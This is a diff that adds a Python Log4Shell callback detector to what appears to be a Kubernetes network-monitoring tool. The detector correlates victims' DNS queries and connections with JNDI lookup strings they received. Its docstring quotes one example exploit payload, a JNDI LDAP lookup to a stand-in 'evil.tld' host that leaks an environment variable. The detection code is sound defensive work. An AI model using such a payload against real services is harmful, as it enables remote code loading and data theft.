@@ -1,0 +1,78 @@
+"""LOG4J_CALLBACK: a host that received a lookup string contacts the place it named.
+
+Matched by address, not by content: a connection from the victim to the lookup's host and port
+(the scheme's default port when none was given), a DNS query by the victim for the named host or
+for a name built around an exfiltrated value (`${jndi:ldap://${env:USER}.evil.tld/a}`), and
+connections to the addresses DNS returned for that host.
+"""
+
+from __future__ import annotations
+
+from kubectl_netmon.capture.conn import Conn
+from kubectl_netmon.capture.l7.events import DnsMessage
+from kubectl_netmon.detect.base import Detector, Notice
+from kubectl_netmon.detect.log4shell import notes
+from kubectl_netmon.detect.log4shell.correlate import Target, Tracker, endpoint
+from kubectl_netmon.output.escape import escape
+
+
+class CallbackDetector(Detector):
+    """Raises LOG4J_CALLBACK for DNS queries as they happen and for connections when they end."""
+
+    name = "log4shell.callback"
+
+    def __init__(self, tracker: Tracker) -> None:
+        super().__init__()
+        self._tracker = tracker
+        self._raised: set[str] = set()  # uids already reported
+
+    def on_event(self, conn: Conn, event: object) -> None:
+        if not isinstance(event, DnsMessage) or not event.query:
+            return
+        targets = self._tracker.targets(conn.orig_h, event.ts_ns)
+        for target in targets:
+            if not target.matches_host(event.query):
+                continue
+            if event.is_response:
+                target.ips.update(a for a in event.answers if _is_address(a))
+            else:
+                self._raise(conn, event.ts_ns, target, f"dns:{event.query.lower()}",
+                            event.query)
+        if targets and not event.is_response and conn.uid not in self._raised:
+            self._check_conn(conn, event.ts_ns, event.query)
+
+    def on_conn_end(self, conn: Conn) -> None:
+        if conn.uid in self._raised:
+            self._raised.discard(conn.uid)
+        else:
+            self._check_conn(conn, conn.ts_ns, _first_query(conn))
+
+    def _check_conn(self, conn: Conn, ts_ns: int, query: str) -> None:
+        """Raise if conn goes from a victim to the host and port of a lookup it received."""
+        for target in self._tracker.targets(conn.orig_h, conn.ts_ns):
+            if target.uid != conn.uid and target.lookup.port == conn.resp_p and \
+                    target.matches_host(conn.resp_h):
+                self._raised.add(conn.uid)
+                self._raise(conn, ts_ns, target, endpoint(conn.resp_h, conn.resp_p), query)
+                return
+
+    def _raise(self, conn: Conn, ts_ns: int, target: Target, what: str, query: str) -> None:
+        lookup = target.lookup
+        extra = {"lookup.scheme": lookup.scheme, "lookup.host": escape(lookup.host),
+                 "lookup.port": lookup.port, "attempt.uid": target.uid}
+        sub = (f"lookup='{escape(lookup.normalised)}', target={escape(lookup.target)}, "
+               f"seen={escape(what)}")
+        if query:
+            extra["dns.query"] = escape(query)
+            sub += f", query='{escape(query)}'"
+        notice = Notice.for_conn(conn, ts_ns, notes.CALLBACK, notes.MSG[notes.CALLBACK], sub=sub,
+                                 identifier=f"{conn.orig_h}->{what}", extra=extra)
+        self._tracker.report(self, notice, conn.orig_h, callback=escape(lookup.target))
+
+
+def _first_query(conn: Conn) -> str:
+    return next((e.query for e in conn.l7 if isinstance(e, DnsMessage) and e.query), "")
+
+
+def _is_address(text: str) -> bool:
+    return text.count(".") == 3 and text.replace(".", "").isdigit() or ":" in text
